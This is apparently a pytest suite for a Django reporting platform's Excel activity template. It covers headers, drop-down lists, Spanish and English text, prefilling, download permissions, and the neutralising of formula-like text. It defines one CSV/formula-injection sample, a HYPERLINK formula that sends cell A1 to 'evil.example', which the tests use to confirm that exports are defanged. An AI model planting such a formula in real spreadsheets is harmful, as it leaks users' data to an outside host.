"""The activity template: the column contract as a workbook, and who may download it.

Alice (HIAS) downloads her organisation's template; Bob (Cáritas) may not get hers; Paula
(coordinator) reviews and never uploads; Ivan (IM officer) names any organisation.
"""

from __future__ import annotations

import datetime as dt
import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from partners.models import Organisation, OrganisationType, Role
from reporting import texts
from reporting.models import (
    ActivityLine,
    Indicator,
    Location,
    Modality,
    PopulationType,
    ReportingPeriod,
    Sector,
)
from reporting.sheets import columns, matching, planner, reading
from reporting.sheets.template_workbook import build_template, template_filename

from .factories import LineFactory, PeriodFactory, ReportFactory, UserFactory

SEPTEMBER = dt.date(2023, 9, 1)
AUGUST = dt.date(2023, 8, 1)
URL = "/imports/template/"


def open_workbook(content: bytes):
    return load_workbook(io.BytesIO(content))


def listed(workbook, name: str) -> list[str]:
    """Return the values of a workbook-level named range."""
    (sheet_title, reference), = workbook.defined_names[name].destinations
    cells = workbook[sheet_title][reference.replace("$", "")]
    return [row[0].value for row in cells if row[0].value is not None]


def codes(workbook, name: str) -> list[str]:
    """Return the codes of a named list whose entries read "code · name"."""
    return [columns.code_part(entry) for entry in listed(workbook, name)]


def dependent(prefix: str, cell: str, fallback: str) -> str:
    """The drop-down of a column whose list depends on `cell`: the list named after the code
    part of the parent's "code · name" (the text before " · ", or all of it)."""
    code = f'LEFT({cell},FIND(" · ",{cell}&" · ")-1)'
    return f'IF(ISREF(INDIRECT("{prefix}"&{code})),INDIRECT("{prefix}"&{code}),{fallback})'


def validations(sheet) -> dict[str, object]:
    """Return column letter -> the data validation of that column's data rows."""
    by_letter = {}
    for validation in sheet.data_validations.dataValidation:
        for cell_range in validation.sqref.ranges:
            assert cell_range.min_row == 3
            for column in range(cell_range.min_col, cell_range.max_col + 1):
                by_letter[columns.TEMPLATE_COLUMNS[column - 1].field] = validation
    return by_letter


@pytest.fixture
def august(db):
    return PeriodFactory(month=AUGUST)


@pytest.fixture
def august_lines(org_a, org_b, protection, health, august, alice):
    pro = ReportFactory(organisation=org_a, sector=protection, period=august, status="approved")
    hea = ReportFactory(organisation=org_a, sector=health, period=august)
    lima = Location.objects.get(code="15")
    miraflores = Location.objects.get(code="150122")
    lines = [
        LineFactory(report=pro, department=lima, location=miraflores, description="=1+1 talleres"),
        LineFactory(report=hea, girls=1, boys=0, women=0, men=0, other_adults=0,
                    modality=Modality.CASH, cash_usd=Decimal("120.50"),
                    delivery_mechanism="prepaid_card"),
    ]
    other = ReportFactory(organisation=org_b, sector=protection, period=august)
    LineFactory(report=other)
    return lines


class TestTheWorkbook:
    def test_it_has_the_contract_headers_and_hxl_row(self, org_a, period):
        workbook = open_workbook(build_template(organisation=org_a, month=SEPTEMBER))

        assert workbook.sheetnames == ["Activities", "Instructions", "Lists"]
        sheet = workbook.active
        assert sheet.title == "Activities"
        assert tuple(cell.value for cell in sheet[1]) == columns.TEMPLATE_HEADERS
        assert "Other" not in columns.TEMPLATE_HEADERS  # the legacy column is for old files only
        assert tuple(cell.value for cell in sheet[2]) == tuple(
            column.hxl for column in columns.TEMPLATE_COLUMNS)
        assert sheet.freeze_panes == "A3"
        assert sheet.max_row == 2  # no row filled in with only a month and an organisation

    def test_its_headers_explain_themselves_in_both_languages(self, org_a):
        sheet = open_workbook(build_template(organisation=org_a, month=SEPTEMBER))["Activities"]

        comment = sheet["A1"].comment.text
        with translation.override("es"):
            assert str(columns.COLUMNS[0].help) in comment
        assert "The month reported" in comment
        assert sheet["A1"].font.bold and sheet["A2"].font.italic

    def test_the_lists_sheet_is_hidden(self, org_a):
        workbook = open_workbook(build_template(organisation=org_a, month=SEPTEMBER))

        assert workbook["Lists"].sheet_state == "hidden"
        assert workbook["Activities"].sheet_state == "visible"

    def test_its_lists_hold_the_live_reference_codes(self, org_a):
        workbook = open_workbook(build_template(organisation=org_a, month=SEPTEMBER))

        assert listed(workbook, "MONTH_LIST") == ["2023-09"]
        assert listed(workbook, "ORGANISATION_LIST") == ["HIAS"]
        assert codes(workbook, "SECTOR_LIST") == list(
            Sector.objects.top_level().filter(active=True).values_list("code", flat=True)
        )
        assert "PRO-CP" not in codes(workbook, "SECTOR_LIST")  # sub-sectors report in PRO
        assert "HEA · Health" in listed(workbook, "SECTOR_LIST")  # each code with its name
        assert len(listed(workbook, "DEPARTMENT_LIST")) == 25
        assert "01 · Amazonas" in listed(workbook, "DEPARTMENT_LIST")  # text: its leading zero
        assert codes(workbook, "MECHANISM_LIST") == [
            "bank_account", "mobile_money", "prepaid_card", "otc", "cash_in_hand", "cardless_atm",
            "voucher", "other"]
        assert "mobile_money · Mobile money" in listed(workbook, "MECHANISM_LIST")
        assert {code.split(" · ")[0] for code in listed(workbook, "POPULATION_TYPE_LIST")} == {
            "destination", "transit", "host", "pendular", "returnee"}
        assert [code.split(" · ")[0] for code in listed(workbook, "MODALITY_LIST")] == [
            "service", "in_kind", "cash", "voucher"]
        assert "in_kind · In kind" in listed(workbook, "MODALITY_LIST")
        assert "CARITAS" in listed(workbook, "PARTNER_LIST")

    def test_dependent_lists_narrow_indicators_and_places(self, org_a):
        workbook = open_workbook(build_template(organisation=org_a, month=SEPTEMBER))

        protection = codes(workbook, "IND_PRO")
        assert protection == sorted(
            Indicator.objects.filter(active=True, sector__code__startswith="PRO")
            .values_list("code", flat=True)
        )
        assert "PRO-CP-01" in protection  # a sub-sector's indicators are its parent's
        lima = codes(workbook, "PROV_15")
        assert lima == list(
            Location.objects.filter(parent__code="15").order_by("code").values_list("code", flat=True)
        )
        assert "1501" in lima
        assert all(code.startswith("1501") for code in codes(workbook, "DIST_1501"))
        assert "150122 · Miraflores" in listed(workbook, "DIST_1501")

    def test_every_parent_entry_names_its_dependent_list(self, org_a):
        """The indicator, province and district drop-downs find their parent's list from the
        code part of the parent's "code · name" entry: every entry's code names a list."""
        workbook = open_workbook(build_template(organisation=org_a, month=SEPTEMBER))

        for parent, prefix in (("SECTOR_LIST", "IND_"), ("DEPARTMENT_LIST", "PROV_"),
                               ("PROVINCE_LIST", "DIST_")):
            for entry in listed(workbook, parent):
                code, separator, name = entry.partition(columns.CODE_NAME_SEPARATOR)
                assert separator and name, entry
                assert prefix + code in workbook.defined_names, entry

    def test_a_new_indicator_is_offered_and_a_retired_one_is_not(self, org_a, health):
        Indicator.objects.create(code="HEA-99", sector=health, name_es="Nuevo", name_en="New",
                                 plan=Indicator.objects.get(code="HEA-01").plan)
        Indicator.objects.filter(code="HEA-01").update(active=False)

        workbook = open_workbook(build_template(organisation=org_a, month=SEPTEMBER))

        assert "HEA-99 · New" in listed(workbook, "INDICATOR_LIST")
        assert "HEA-99" in codes(workbook, "IND_HEA")
        assert "HEA-01" not in codes(workbook, "INDICATOR_LIST")

    def test_drop_downs_and_number_checks_cover_the_right_columns(self, org_a):
        sheet = open_workbook(build_template(organisation=org_a, month=SEPTEMBER, rows=40))[
            "Activities"]

        rules = validations(sheet)
        assert {field: rule.formula1 for field, rule in rules.items() if rule.type == "list"} == {
            "month": "MONTH_LIST",
            "organisation": "ORGANISATION_LIST",
            "implementing_partner": "PARTNER_LIST",
            "sector": "SECTOR_LIST",
            "indicator": dependent("IND_", "$D3", "INDICATOR_LIST"),
            "department": "DEPARTMENT_LIST",
            "province": dependent("PROV_", "$F3", "PROVINCE_LIST"),
            "district": dependent("DIST_", "$G3", "DISTRICT_LIST"),
            "population_type": "POPULATION_TYPE_LIST",
            "modality": "MODALITY_LIST",
            "rmrp_activity": '"yes,no"',
            "delivery_mechanism": "MECHANISM_LIST",
        }
        assert {field for field, rule in rules.items() if rule.type == "whole"} == {
            "girls", "boys", "women", "men", "other_under_18", "other_adults",
            "new_beneficiaries", "total_monthly", "quantity"}
        assert rules["cash_usd"].type == "decimal"
        assert "description" not in rules
        assert all(rule.showErrorMessage and rule.error for rule in rules.values())
        # Excel refuses to open a workbook with longer validation titles or messages.
        assert all(len(rule.errorTitle) <= 32 and len(rule.error) <= 255 for rule in rules.values())
        assert rules["sector"].errorStyle == "stop"
        assert rules["month"].errorStyle == "warning"  # another month is the user's call
        assert max(r.max_row for rule in rules.values() for r in rule.sqref.ranges) == 42

    def test_month_and_places_are_typed_as_text_and_counts_as_numbers(self, org_a):
        sheet = open_workbook(build_template(organisation=org_a, month=SEPTEMBER))["Activities"]

        formats = {
            column.field: sheet.column_dimensions[letter].number_format
            for column, letter in zip(columns.TEMPLATE_COLUMNS, "ABCDEFGHIJKLMNOPQRSTUVWX",
                                      strict=True)
        }
        assert formats["month"] == formats["department"] == formats["province"] == "@"
        assert formats["girls"] == formats["total_monthly"] == "0"
        assert formats["cash_usd"] == "0.00"

    def test_the_instructions_are_in_spanish_and_english(self, org_a):
        sheet = open_workbook(build_template(organisation=org_a, month=SEPTEMBER))["Instructions"]

        text = "\n".join(str(cell.value) for row in sheet.iter_rows() for cell in row if cell.value)
        assert "Instrucciones (español)" in text
        assert "Instructions (English)" in text
        # The template's language first (English here).
        assert text.index("Instructions (English)") < text.index("Instrucciones (español)")
        for column in columns.COLUMNS:
            for language in ("es", "en"):
                with translation.override(language):
                    assert str(column.help) in text
        assert "El mes reportado" in text  # the contract's help is translated already
        assert "HIAS" in text
        assert "2023-09" in text
        assert "all or nothing" in text
        assert "“Lists”" in text

    def test_its_properties_name_the_platform(self, org_a):
        workbook = open_workbook(build_template(organisation=org_a, month=SEPTEMBER))

        assert workbook.properties.creator == "GTRM Perú"
        assert "HIAS" in workbook.properties.title and "2023-09" in workbook.properties.title

    def test_it_stays_small(self, org_a, august_lines):
        assert len(build_template(organisation=org_a, month=SEPTEMBER)) < 200_000
        assert len(build_template(organisation=org_a, month=SEPTEMBER, prefill_from=AUGUST)) < 200_000

    def test_its_file_name_is_ascii(self, org_a):
        assert template_filename(organisation=org_a, month=SEPTEMBER) == (
            "gtrm-actividades-HIAS-2023-09.xlsx")
        org_a.acronym = "OPS/OMS Perú"
        assert template_filename(organisation=org_a, month=SEPTEMBER) == (
            "gtrm-actividades-OPS-OMS-Peru-2023-09.xlsx")


class TestPrefill:
    def test_it_copies_last_months_lines_into_the_new_month(self, org_a, august_lines):
        sheet = open_workbook(
            build_template(organisation=org_a, month=SEPTEMBER, prefill_from=AUGUST)
        )["Activities"]

        rows = [
            dict(zip(columns.TEMPLATE_HEADERS, (cell.value for cell in row), strict=True))
            for row in sheet.iter_rows(min_row=3, max_col=len(columns.TEMPLATE_HEADERS))
        ]
        assert len(rows) == 2  # Cáritas's line stays with Cáritas
        health_row, protection_row = rows  # in sector order: Health comes before Protection
        first, second = august_lines
        assert protection_row["Month"] == health_row["Month"] == "2023-09"
        assert protection_row["Organisation"] == "HIAS"
        # Each as its drop-down offers it: the code with its name.
        assert protection_row["Sector"] == "PRO · Protection"
        assert protection_row["Indicator"] == f"{first.indicator.code} · {first.indicator.name_en}"
        assert protection_row["Department"] == "15 · Lima"
        assert protection_row["Province"] == "1501 · Lima"
        assert protection_row["District"] == "150122 · Miraflores"
        assert protection_row["Girls"] == 10
        assert protection_row["Total monthly beneficiaries"] == first.total_monthly
        assert protection_row["Quantity"] is None
        # Text, never a formula: neutralised as in the exports (the importer takes it off).
        assert protection_row["Description"] == "'=1+1 talleres"
        description = columns.TEMPLATE_HEADERS.index("Description") + 1
        assert sheet.cell(row=4, column=description).data_type == "s"
        assert health_row["Sector"] == "HEA · Health"
        assert health_row["Modality"] == "cash · Cash"
        assert health_row["Delivery mechanism"] == "prepaid_card · Prepaid card"
        assert health_row["Cash USD"] == pytest.approx(120.5)
        assert health_row["Province"] is None
        assert sheet.cell(row=3, column=1).number_format == "@"

    @pytest.mark.parametrize("language", ["en", "es"])
    def test_every_copied_value_is_an_entry_of_its_drop_down(self, org_a, august_lines,
                                                             language):
        workbook = open_workbook(build_template(organisation=org_a, month=SEPTEMBER,
                                                prefill_from=AUGUST, language=language))
        sheet = workbook.worksheets[0]
        headers = [columns.header_in(column, language) for column in columns.TEMPLATE_COLUMNS]
        rows = [dict(zip((column.field for column in columns.TEMPLATE_COLUMNS),
                         (cell.value for cell in row), strict=True))
                for row in sheet.iter_rows(min_row=3, max_col=len(headers))]
        assert len(rows) == 2
        for row in rows:
            code = {field: columns.code_part(row[field] or "") for field in row
                    if isinstance(row[field], str)}
            assert row["sector"] in listed(workbook, "SECTOR_LIST")
            assert row["indicator"] in listed(workbook, "IND_" + code["sector"])
            assert row["department"] in listed(workbook, "DEPARTMENT_LIST")
            if row["province"]:
                assert row["province"] in listed(workbook, "PROV_" + code["department"])
            if row["district"]:
                assert row["district"] in listed(workbook, "DIST_" + code["province"])
            assert row["population_type"] in listed(workbook, "POPULATION_TYPE_LIST")
            assert row["modality"] in listed(workbook, "MODALITY_LIST")
            if row["delivery_mechanism"]:
                assert row["delivery_mechanism"] in listed(workbook, "MECHANISM_LIST")
        assert {row["delivery_mechanism"] for row in rows} == {
            None, "prepaid_card · " + ("Tarjeta prepagada" if language == "es" else
                                       "Prepaid card")}

    def test_it_reads_back_as_the_same_rows(self, org_a, august_lines):
        content = build_template(organisation=org_a, month=SEPTEMBER, prefill_from=AUGUST)

        table = reading.read_table(content, "gtrm-actividades-HIAS-2023-09.xlsx")

        assert table.sheet == "Activities"
        assert table.has_hxl
        assert [row.number for row in table.rows] == [3, 4]
        protection = table.rows[1].values
        assert protection["month"] == "2023-09"
        assert protection["organisation"] == "HIAS"
        assert columns.code_part(protection["indicator"]) == august_lines[0].indicator.code
        assert protection["district"] == "150122 · Miraflores"
        assert protection["girls"] == 10
        assert protection["description"] == "'=1+1 talleres"

    def test_the_importer_plans_it_without_errors(self, org_a, period, alice, august_lines):
        content = build_template(organisation=org_a, month=SEPTEMBER, prefill_from=AUGUST)

        plan = planner.plan_import(reading.read_table(content, "t.xlsx"), user=alice)

        assert plan.errors == []
        assert sorted((report.sector.code, report.month, len(report.lines))
                      for report in plan.reports) == [("HEA", SEPTEMBER, 1), ("PRO", SEPTEMBER, 1)]

    def test_a_blank_template_reads_as_headers_without_rows(self, org_a):
        with pytest.raises(reading.FileRejected) as error:
            reading.read_table(build_template(organisation=org_a, month=SEPTEMBER), "t.xlsx")

        assert error.value.message == str(texts.NO_ROWS)

    def test_the_instructions_say_where_the_rows_came_from(self, org_a, august_lines):
        sheet = open_workbook(
            build_template(organisation=org_a, month=SEPTEMBER, prefill_from=AUGUST)
        )["Instructions"]

        text = " ".join(str(cell.value) for row in sheet.iter_rows() for cell in row if cell.value)
        assert "copied from your lines of 2023-08" in text

    def test_it_reads_lines_in_one_query(self, org_a, august_lines, django_assert_num_queries):
        with django_assert_num_queries(5):  # lines, sectors, indicators, places, organisations
            build_template(organisation=org_a, month=SEPTEMBER, prefill_from=AUGUST)


# Text a spreadsheet would run as a formula: "@Org" reports, with "-Org" as implementing partner

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Ver detalle")'
LINE_FIELDS = ("indicator__code", "department__code", "location__code", "population_type",
               "modality", "implementing_partner__acronym", "girls", "boys", "women", "men",
               "other_under_18", "other_adults", "other_unknown_age", "new_beneficiaries",
               "total_monthly", "quantity", "cash_usd",
               "description")


def lines_of(organisation, month) -> list[tuple]:
    return sorted(
        ActivityLine.objects.filter(report__organisation=organisation, report__period__month=month)
        .values_list("report__sector__code", *LINE_FIELDS),
        key=str,
    )


@pytest.fixture
def at_org(db):
    """An organisation whose acronym and name a spreadsheet would read as formulas."""
    return Organisation.objects.create(
        acronym="@Org", name="@Org Asociación", short_name="@Org", type=OrganisationType.NNGO)


@pytest.fixture
def minus_org(db):
    return Organisation.objects.create(
        acronym="-Org", name="-Org Perú", short_name="-Org", type=OrganisationType.RMO)


@pytest.fixture
def olga(at_org):
    """A reporter of @Org."""
    return UserFactory(username="olga", organisation=at_org, role=Role.REPORTER)


@pytest.fixture
def formula_lines(at_org, minus_org, protection, august, olga):
    report = ReportFactory(organisation=at_org, sector=protection, period=august)
    tumbes = Location.objects.get(code="24")
    return [
        LineFactory(report=report, description=HYPERLINK, implementing_partner=minus_org),
        LineFactory(report=report, description="- talleres en Lima\n- charlas",
                    population_type=PopulationType.TRANSIT),
        LineFactory(report=report, department=tumbes, location=tumbes,
                    description="+51 972 000 111, coordinación", implementing_partner=at_org),
    ]


def prefilled(client, user) -> bytes:
    client.force_login(user)
    response = client.get(URL, {"period": "2023-09", "prefill": "1"})
    assert response.status_code == 200
    return response.content


def activity_rows(workbook) -> list[dict]:
    sheet = workbook["Activities"]
    return [
        dict(zip((column.field for column in columns.TEMPLATE_COLUMNS), row, strict=True))
        for row in sheet.iter_rows(min_row=3, max_col=len(columns.TEMPLATE_COLUMNS))
    ]


@pytest.mark.django_db
class TestTextThatLooksLikeAFormula:
    def test_prefilled_cells_are_neutralised_as_in_the_exports(
        self, client, olga, period, formula_lines
    ):
        workbook = open_workbook(prefilled(client, olga))

        rows = activity_rows(workbook)
        assert len(rows) == 3
        assert sorted(row["description"].value for row in rows) == sorted(
            columns.neutralise(line.description) for line in formula_lines)
        assert "'" + HYPERLINK in [row["description"].value for row in rows]
        assert {row["organisation"].value for row in rows} == {"'@Org"}
        assert {row["implementing_partner"].value for row in rows} == {"'-Org", "'@Org", None}
        for row in rows:
            for cell in row.values():
                assert cell.data_type != "f"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(columns.FORMULA_TRIGGERS), cell.value

    def test_every_name_on_the_lists_sheet_is_neutralised(self, client, olga, minus_org, period):
        workbook = open_workbook(prefilled(client, olga))

        assert listed(workbook, "ORGANISATION_LIST") == ["'@Org"]
        assert {"'-Org", "'@Org", "HIAS"} <= set(listed(workbook, "PARTNER_LIST"))
        texts = [cell.value for row in workbook["Lists"].iter_rows() for cell in row
                 if isinstance(cell.value, str)]
        assert {"'-Org Perú", "'@Org Asociación"} <= set(texts)
        assert [text for text in texts if text.startswith(columns.FORMULA_TRIGGERS)] == []

    def test_a_prefilled_name_is_an_entry_of_its_drop_down_list(
        self, client, olga, period, formula_lines
    ):
        workbook = open_workbook(prefilled(client, olga))

        organisations = listed(workbook, "ORGANISATION_LIST")
        partners = listed(workbook, "PARTNER_LIST")
        for row in activity_rows(workbook):
            assert row["organisation"].value in organisations
            assert row["implementing_partner"].value in [*partners, None]

    def test_uploaded_back_unchanged_it_gives_the_same_lines(
        self, client, olga, at_org, period, formula_lines
    ):
        content = prefilled(client, olga)

        response = client.post(
            "/imports/", {"file": SimpleUploadedFile("gtrm-actividades.xlsx", content)})
        assert response.status_code == 302, response.content[:500]
        response = client.post(response.url.rstrip("/") + "/confirm/")
        assert response.status_code == 302

        assert lines_of(at_org, SEPTEMBER) == lines_of(at_org, AUGUST)
        assert HYPERLINK in [line[-1] for line in lines_of(at_org, SEPTEMBER)]


@pytest.mark.django_db
class TestTheDownload:
    def test_it_gives_a_partner_their_organisations_template(self, client, alice, period):
        client.force_login(alice)

        response = client.get(URL, {"period": "2023-09"})

        assert response.status_code == 200
        assert response["Content-Type"] == (
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
        assert response["Content-Disposition"] == (
            'attachment; filename="gtrm-actividades-HIAS-2023-09.xlsx"')
        workbook = open_workbook(response.content)
        assert listed(workbook, "ORGANISATION_LIST") == ["HIAS"]
        assert listed(workbook, "MONTH_LIST") == ["2023-09"]

    def test_a_partner_may_name_their_own_organisation(self, client, alice, period):
        client.force_login(alice)

        assert client.get(URL, {"organisation": "hias"}).status_code == 200

    def test_a_partner_cannot_get_another_organisations_template(self, client, bob, period):
        client.force_login(bob)

        assert client.get(URL, {"organisation": "HIAS"}).status_code == 404

    def test_it_defaults_to_the_current_period(self, client, alice, period):
        client.force_login(alice)

        response = client.get(URL)

        assert response.status_code == 200
        current = ReportingPeriod.objects.current()
        assert f"-{current.code}.xlsx" in response["Content-Disposition"]

    def test_it_refuses_a_month_without_a_period(self, client, alice, period):
        client.force_login(alice)

        assert client.get(URL, {"period": "2031-01"}).status_code == 404
        assert client.get(URL, {"period": "September"}).status_code == 404

    def test_it_prefills_from_the_previous_month(self, client, alice, period, august_lines):
        client.force_login(alice)

        response = client.get(URL, {"period": "2023-09", "prefill": "1"})

        sheet = open_workbook(response.content)["Activities"]
        assert sheet.max_row == 4
        assert sheet["A3"].value == "2023-09"

    def test_it_refuses_a_coordinator(self, client, paula, period):
        client.force_login(paula)

        assert client.get(URL, {"organisation": "HIAS"}).status_code == 403

    def test_it_sends_the_anonymous_to_sign_in(self, client, period):
        response = client.get(URL)

        assert response.status_code == 302
        assert response["Location"].startswith("/accounts/login/?next=/imports/template/")

    def test_an_im_officer_must_name_an_organisation(self, client, ivan, period):
        client.force_login(ivan)

        response = client.get(URL)

        assert response.status_code == 400
        assert b"Choose the organisation" in response.content

    def test_an_im_officer_gets_any_organisations_template(self, client, ivan, period):
        client.force_login(ivan)

        response = client.get(URL, {"organisation": "CARITAS", "period": "2023-09"})

        assert response.status_code == 200
        assert "gtrm-actividades-CARITAS-2023-09.xlsx" in response["Content-Disposition"]
        assert client.get(URL, {"organisation": "NOPE"}).status_code == 404

    def test_it_runs_a_bounded_number_of_queries(
        self, client, alice, period, august_lines, django_assert_max_num_queries
    ):
        client.force_login(alice)

        with django_assert_max_num_queries(12):
            response = client.get(URL, {"period": "2023-09", "prefill": "1"})

        assert response.status_code == 200

    def test_it_answers_get_only(self, client, alice, period):
        client.force_login(alice)

        assert client.post(URL).status_code == 405


@pytest.mark.django_db
class TestTheTemplateInTheUsersLanguage:
    def test_a_spanish_template_has_spanish_sheets_headers_and_drop_downs(self, org_a, period):
        workbook = open_workbook(build_template(organisation=org_a, month=SEPTEMBER,
                                                language="es"))

        assert workbook.sheetnames == ["Actividades", "Instrucciones", "Listas"]
        headers = [cell.value for cell in workbook["Actividades"][1]]
        assert headers[:3] == ["Mes", "Organización", "Socio implementador"]
        assert "Nuevos beneficiarios" in headers
        assert "in_kind · En especie" in listed(workbook, "MODALITY_LIST")
        text = "\n".join(str(cell.value) for row in workbook["Instrucciones"].iter_rows()
                         for cell in row if cell.value)
        assert text.index("Instrucciones (español)") < text.index("Instructions (English)")

    def test_the_breakdown_sum_is_checked_in_the_sheet(self, org_a, period):
        sheet = open_workbook(build_template(organisation=org_a, month=SEPTEMBER))["Activities"]

        letter = {header: get_column_letter(index)
                  for index, header in enumerate(columns.TEMPLATE_HEADERS, start=1)}
        new = letter["New beneficiaries"]
        rules = [(str(area.sqref), rule) for area in sheet.conditional_formatting
                 for rule in area.rules]
        assert len(rules) == 1
        area, rule = rules[0]
        assert area.startswith(f"{new}3:")
        formula = rule.formula[0]
        for header in ("Girls", "Boys", "Women", "Men", "Other under 18", "Other 18+"):
            assert f"${letter[header]}3" in formula
        assert f"<>N(${new}3)" in formula

    def test_a_filled_spanish_template_uploads(self, org_a, period):
        workbook = open_workbook(build_template(organisation=org_a, month=SEPTEMBER,
                                                language="es"))
        sheet = workbook["Actividades"]
        headers = [cell.value for cell in sheet[1]]
        values = {"Mes": "2023-09", "Organización": "HIAS", "Sector": "PRO",
                  "Departamento": "15 · Lima", "Tipo de población": "destination · En destino",
                  "Modalidad": "service · Servicio", "Niñas": 1, "Mujeres": 2,
                  "Nuevos beneficiarios": 3, "Total de beneficiarios mensuales": 3}
        for header, value in values.items():
            sheet.cell(row=3, column=headers.index(header) + 1, value=value)
        buffer = io.BytesIO()
        workbook.save(buffer)

        table = reading.read_table(buffer.getvalue(), "plantilla.xlsx")

        assert table.sheet == "Actividades"
        assert table.columns["new_beneficiaries"] == headers.index("Nuevos beneficiarios")
        assert len(table.rows) == 1
        assert table.rows[0].values["department"] == "15 · Lima"
        index = matching.Reference()
        assert index.department("15 · Lima").code == "15"
        assert index.population_type("destination · En destino") == "destination"
        assert index.population_type("In destination") == "destination"
        assert index.modality("service · Service") == "service"


@pytest.mark.django_db
class TestASpanishSpeakerFillsTheTemplateOnTheWeb:
    """The whole round trip through the pages, in Spanish: download the template, fill rows
    with the drop-downs' own entries ("code · name"), upload, read the preview, confirm."""

    @pytest.fixture
    def spanish(self, client, alice, period):
        client.force_login(alice)
        client.cookies["django_language"] = "es"
        return client

    @staticmethod
    def entry(workbook, name: str, code: str) -> str:
        """The drop-down entry of `code` in list `name`, as a person picks it."""
        found = [entry for entry in listed(workbook, name) if columns.code_part(entry) == code]
        assert len(found) == 1, (name, code, listed(workbook, name)[:5])
        return found[0]

    def filled(self, spanish, rows: list[dict]) -> bytes:
        response = spanish.get(URL, {"period": "2023-09"})
        assert response.status_code == 200
        workbook = open_workbook(response.content)
        sheet = workbook["Actividades"]
        headers = [cell.value for cell in sheet[1]]
        for number, values in enumerate(rows, start=3):
            for header, value in values.items():
                sheet.cell(row=number, column=headers.index(header) + 1, value=value)
        buffer = io.BytesIO()
        workbook.save(buffer)
        return buffer.getvalue()

    def rows(self, spanish) -> tuple[list[dict], Indicator]:
        workbook = open_workbook(spanish.get(URL, {"period": "2023-09"}).content)
        cash = next(indicator for indicator in Indicator.objects.in_force(SEPTEMBER)
                    .filter(active=True, unit="people", sector__code="HEA")
                    .order_by("code") if Modality.CASH in indicator.modalities)
        common = {"Mes": "2023-09", "Organización": "HIAS",
                  "Departamento": self.entry(workbook, "DEPARTMENT_LIST", "15"),
                  "Tipo de población": self.entry(workbook, "POPULATION_TYPE_LIST",
                                                  "destination")}
        protection = {
            **common,
            "Sector": self.entry(workbook, "SECTOR_LIST", "PRO"),
            "Indicador": self.entry(workbook, "IND_PRO", "PRO-01"),
            "Provincia": self.entry(workbook, "PROV_15", "1501"),
            "Distrito": self.entry(workbook, "DIST_1501", "150122"),
            "Modalidad": self.entry(workbook, "MODALITY_LIST", "service"),
            "Niñas": 4, "Mujeres": 6, "Nuevos beneficiarios": 10,
            "Total de beneficiarios mensuales": 12,
        }
        health = {
            **common,
            "Sector": self.entry(workbook, "SECTOR_LIST", "HEA"),
            "Indicador": self.entry(workbook, "IND_HEA", cash.code),
            "Modalidad": self.entry(workbook, "MODALITY_LIST", "cash"),
            "Mecanismo de entrega": self.entry(workbook, "MECHANISM_LIST", "mobile_money"),
            "Hombres": 3, "Nuevos beneficiarios": 3, "Total de beneficiarios mensuales": 3,
            "Efectivo USD": 150,
        }
        assert protection["Sector"] == "PRO · Protección"  # names in the user's language
        assert health["Mecanismo de entrega"] == "mobile_money · Dinero móvil"
        return [protection, health], cash

    def test_the_filled_template_uploads_and_saves_its_lines(self, spanish, org_a):
        rows, cash = self.rows(spanish)

        response = spanish.post("/imports/", {
            "file": SimpleUploadedFile("plantilla.xlsx", self.filled(spanish, rows))})
        assert response.status_code == 302, response.content[:1000]
        preview = spanish.get(response.url)
        page = preview.content.decode()
        assert '<html lang="es">' in page
        assert "Protección" in page and "Salud" in page
        assert preview.context["batch"].summary["errors"] == 0, page
        assert spanish.post(response.url.rstrip("/") + "/confirm/").status_code == 302

        saved = sorted(ActivityLine.objects.filter(report__organisation=org_a).values_list(
            "indicator__code", "department__code", "location__code", "population_type",
            "modality", "delivery_mechanism", "girls", "women", "men", "new_beneficiaries",
            "cash_usd"))
        assert saved == sorted([
            ("PRO-01", "15", "150122", "destination", "service", "", 4, 6, 0, 10, None),
            (cash.code, "15", "15", "destination", "cash", "mobile_money", 0, 0, 3, 3,
             Decimal("150.00")),
        ])

    def test_a_wrong_cell_is_named_by_its_spanish_column_in_spanish(self, spanish, org_a):
        rows, _cash = self.rows(spanish)
        rows[0]["Niñas"] = "muchas"

        response = spanish.post("/imports/", {
            "file": SimpleUploadedFile("plantilla.xlsx", self.filled(spanish, rows))})
        preview = spanish.get(response.url)
        page = preview.content.decode()

        assert [(error["row"], error["column"]) for error in preview.context["errors"]] == [
            (3, "Niñas")]
        with translation.override("es"):
            assert str(texts.NOT_A_WHOLE_NUMBER % {"value": "muchas"}) in page
        assert not ActivityLine.objects.filter(report__organisation=org_a).exists()
